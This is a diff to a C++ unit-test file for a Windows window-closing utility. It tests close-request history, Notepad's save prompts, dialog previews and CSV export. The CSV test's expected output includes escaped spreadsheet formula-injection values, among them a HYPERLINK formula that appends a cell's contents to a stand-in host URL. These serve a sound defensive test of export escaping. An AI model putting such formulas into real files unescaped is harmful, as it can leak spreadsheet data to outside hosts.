@@ -2,6 +2,8 @@
 // kept newest first), its window and the preview of the add and edit dialogs.
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 #include "resources/resource.h"
 #include "tests/unit/fake_dialogs.h"
 
@@ -31,18 +33,22 @@ struct History : ::testing::Test, FrmWorld {
 // Gone (or hidden by its program) within 2 s: "Closed"; there after 2 s:
 // "Still open", "Closed" should it go while still asked; refused by Windows:
 // "Refused"; a program that does not answer is not asked, not recorded. A
-// window asked again keeps its row; the entry is the first in list order.
+// window asked again keeps its row; the entry is the first in list order; the
+// program is that of a window that went at once too.
 TEST_F(History, EachRequestIsFollowedToItsOutcome) {
     closed.Form_Load();
     frm.lv().Assign({"zzzzz", "offer", "daily"});
     windows.Add(1, "Special daily offer").program = "browser.exe";
+    windows.onPost = [&](WindowHandle w, unsigned message) {
+        if (w == 1 && message == kWmClose) windows.Remove(1);
+    };
     windows.Add(2, "Offer that asks a question");
     windows.Add(3, "Offer as admin").elevated = true;
     windows.Add(4, "Offer not answering").hung = true;
     windows.Add(5, "Daily news");
     Pass();
-    EXPECT_EQ(std::make_tuple(Column(4), check.IsRunning()), std::make_tuple(Strings{kAsked, "Refused", kAsked, kAsked}, true));
-    windows.Remove(1);
+    EXPECT_EQ(std::make_tuple(Column(4), check.IsRunning()),
+              std::make_tuple(Strings{kAsked, "Refused", kAsked, "Closed"}, true));
     windows.windows[3].visible = false;
     const int shown = historyView.shown;
     Pass(1999);
@@ -59,6 +65,72 @@ TEST_F(History, EachRequestIsFollowedToItsOutcome) {
     EXPECT_EQ(std::make_pair(Column(4)[2], check.IsRunning()), std::make_pair(std::string("Closed"), false));
 }
 
+// Notepad with unsaved text answers a request with "Save changes?", a box
+// titled "Notepad" that disables its window until answered; that box's
+// message loop takes every further request and puts up another box inside
+// it. A disabled window is not asked, nor one asked less than 500 ms ago
+// (another listed window's close frees its title at the next tick, before a
+// busy Notepad took the first request); the question of a window the scan
+// asked is the user's to answer, though the entry matches it: one box at a
+// time, its row "Still open". Answered Cancel, the window is asked again;
+// "Don't Save", it goes. A box a window shows over itself unasked (a nag
+// screen) is closed, as is a window owned by one asked that is not disabled.
+TEST_F(History, AWindowThatAsksItsOwnQuestionIsAskedOnceAtATime) {
+    frm.lv().Assign({"notepad", "register now"});
+    Handles boxes;
+    int queued = 0;  // requests waiting in Notepad's queue
+    const auto owned = [&](WindowHandle w, WindowHandle owner, const std::string& title) -> FakeWindow& {
+        FakeWindow& box = windows.Add(w, title);
+        box.popup = true, box.owner = owner;
+        return box;
+    };
+    const auto asks = [&](WindowHandle w) {
+        const Handles closes = windows.Closed();
+        return std::count(closes.begin(), closes.end(), w);
+    };
+    windows.onPost = [&](WindowHandle w, unsigned message) {
+        if (message == kWmClose && w == 1) ++queued;
+        else if (message == kWmClose && w != 5) windows.Remove(w);  // gone at once; 5 ignores requests
+    };
+    // Two ticks go by before Notepad takes its requests.
+    const auto tick = [&] {
+        Pass(300);
+        clock.milliseconds += 15;
+        frm.Tm_Timer();
+        for (; queued > 0; --queued) {
+            boxes.push_back(owned(0x50 + boxes.size(), 1, "Notepad").handle);
+            for (FakeWindow& w : windows.windows) w.enabled = w.enabled && w.handle != 1;
+        }
+    };
+    windows.Add(1, "Untitled - Notepad").program = "notepad.exe";
+    windows.Add(2, "Shareware").enabled = false;
+    owned(3, 2, "Register now!");
+    windows.Add(5, "Register now - it ignores requests");
+    for (int i = 0; i < 8; ++i) tick();
+    EXPECT_EQ(std::make_tuple(asks(1), asks(3), boxes), std::make_tuple(1, 1, Handles{0x50}));
+    EXPECT_EQ(Column(4), (Strings{"Still open", "Closed", "Still open"}));
+    frm.OnCommand(IDC_LADD);  // the preview leaves the question out too, not the window
+    addItemView.text = "notepad";
+    add.PreviewTmr_Timer();
+    EXPECT_EQ(addLine.text, "Would close now: 1 window" + kDash + "Untitled - Notepad");
+    windows.windows[0].enabled = true;  // Cancel
+    windows.Remove(0x50);
+    owned(4, 1, "Find in Notepad");
+    std::rotate(windows.windows.begin(), windows.windows.end() - 1, windows.windows.end());  // above its owner
+    tick();
+    EXPECT_EQ(std::make_tuple(asks(1), asks(4), boxes), std::make_tuple(2, 1, Handles{0x50, 0x51}));
+    for (WindowHandle gone : {WindowHandle{0x51}, WindowHandle{1}}) windows.Remove(gone);  // Don't Save
+    tick();
+    EXPECT_EQ(Column(1), (Strings{"Untitled - Notepad", "Find in Notepad", "Register now - it ignores requests",
+                                  "Register now!", "Untitled - Notepad"}));
+    EXPECT_EQ(Column(4), (Strings{"Closed", "Closed", "Still open", "Closed", "Still open"}));
+    // Its handle, given to a new window with a nag screen of its own.
+    windows.Add(1, "Shareware").enabled = false;
+    owned(0x60, 1, "Register now, please");
+    tick();
+    EXPECT_EQ(asks(0x60), 1);
+}
+
 // The last 1,000, newest first; every menu item opens the window, which
 // follows them while open, its selection staying with its row.
 TEST_F(History, KeepsTheLastThousandNewestFirst) {
@@ -68,16 +140,16 @@ TEST_F(History, KeepsTheLastThousandNewestFirst) {
     }
     closed.Form_Load();
     for (int i = 1; i <= 1001; ++i) {
-        history.Asked(static_cast<WindowHandle>(i), "Window " + std::to_string(i), "Window", true);
+        history.Asked(static_cast<WindowHandle>(i), "Window " + std::to_string(i), "Window", "", true);
         if (i == 3) historyView.selected = 1;  // "Window 2"
     }
     EXPECT_EQ(std::make_tuple(historyView.rows, closed.Cell(0, 1), closed.Cell(999, 1), historyView.selected),
               std::make_tuple(1000, std::string("Window 1001"), std::string("Window 2"), 999));
-    history.Asked(1002, "Window 1002", "Window", true);  // the selected row goes
+    history.Asked(1002, "Window 1002", "Window", "", true);  // the selected row goes
     EXPECT_EQ(historyView.selected, -1);
     closed.Clear_Click();
     closed.Form_Unload();
-    history.Asked(1, "Window 1", "Window", true);
+    history.Asked(1, "Window 1", "Window", "", true);
     EXPECT_EQ(std::make_pair(historyView.rows, history.Rows().size()), std::make_pair(0, std::size_t{1}));
 }
 
@@ -87,7 +159,7 @@ TEST_F(History, KeepsTheLastThousandNewestFirst) {
 TEST_F(History, RemoveEntryAndDoubleClickFindTheRowsEntry) {
     SeedList({"Daily offer", "Weekly news"});
     frm.RefreshL_Click();
-    for (const char* entry : {"daily offer", "Weekly news", "gone entry"}) history.Asked(1, "A title", entry, true);
+    for (const char* entry : {"daily offer", "Weekly news", "gone entry"}) history.Asked(1, "A title", entry, "", true);
     frm.OnCommand(IDM_CLOSEDWINDOWS);
     process.answers = {kIdOk, kIdOk, kIdCancel, kIdOk};
     for (int row : {-1, 0, 2, 2}) {
@@ -123,7 +195,7 @@ TEST_F(History, SaveAsWritesRfc4180Csv) {
                                 "2024-01-02 03:04:05,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\",'+1 offer,'@a.exe,Closed\r\n"
                                 "2024-01-02 03:04:05,'-1 offer,'\tOffer,\"'\rOffer\",Refused\r\n"
                                 "2024-01-02 03:04:05,Offer =1+1,'=1+1, =1+1,Refused\r\n");
-    history.Asked(1, "Plain", "plain", true);
+    history.Asked(1, "Plain", "plain", "", true);
     frm.OnCommand(IDM_CLOSEDWINDOWS);
     dialogs.answers = {"", "C:\\history.csv", "C:\\history.csv"};
     closed.SaveAs_Click();
@@ -149,8 +221,11 @@ TEST_F(History, PreviewCountsByTheScansRulesAfterItsDelay) {
     windows.Add(2, "Hidden offer", false);
     FakeWindow& ours = windows.Add(3, "Offer of ours");
     ours.popup = true, ours.owner = kMain;
-    windows.Add(4, "Offer on another desktop").cloaked = true;
+    FakeWindow& elsewhere = windows.Add(4, "Offer on another desktop");
+    elsewhere.cloaked = kDwmCloakedShell, elsewhere.otherDesktop = true;
     windows.Add(5, "Program Manager");
+    windows.Add(6, "Offer (Not Responding)").className = "Ghost";
+    windows.Add(7, "Search offers").cloaked = kDwmCloakedShell;
     frm.OnCommand(IDC_LADD);
     const std::pair<const char*, std::string> cases[] = {
         {"offr", kPreviewTooShort}, {"program manager", "Would close now: nothing"},
